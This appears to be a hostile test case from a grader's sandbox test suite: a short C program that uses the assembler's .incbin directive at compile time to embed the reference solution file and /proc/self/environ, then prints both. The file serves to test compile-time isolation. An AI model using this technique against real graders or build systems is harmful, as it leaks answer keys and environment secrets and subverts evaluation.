/* incbin-secrets: the assembler copies files into the program (.incbin) at
 * compile time, where no sandbox of the program's run applies: the
 * reference solution and the compiler's own environment, which it
 * inherits from the grader. The program prints them and exits 1. */
#include <stdio.h>
#include <string.h>

__asm__(".section .rodata\n"
        "hostile_solution:\n"
        ".incbin \"@ROOT@/solutions/keys/ipckey.c\"\n"
        ".byte 0\n"
        "hostile_environ:\n"
        ".incbin \"/proc/self/environ\"\n"
        ".byte 0, 0\n"
        ".previous\n");
extern const char hostile_solution[], hostile_environ[];

int
main(void)
{
    printf("%s\n", hostile_solution);
    for (const char *v = hostile_environ; *v; v += strlen(v) + 1)
        printf("%s\n", v);
    return 1;
}
